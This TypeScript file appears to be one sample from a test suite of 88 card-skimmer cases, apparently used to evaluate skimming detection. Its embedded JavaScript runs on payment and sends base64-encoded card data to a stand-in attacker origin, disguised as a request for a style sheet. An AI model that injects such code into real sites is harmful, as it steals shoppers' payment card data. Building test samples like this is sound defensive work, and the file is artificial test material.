import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'stylesheet-link',
  why: 'A link to a style sheet whose address is the loot (1 of 88 samples; hardest 8).',
  covers: ['sending: stylesheet', 'disguise: file ending'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = '${site.origins.evil}/theme.css?d=' + encodeURIComponent(btoa(card()));
    document.head.append(link);`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
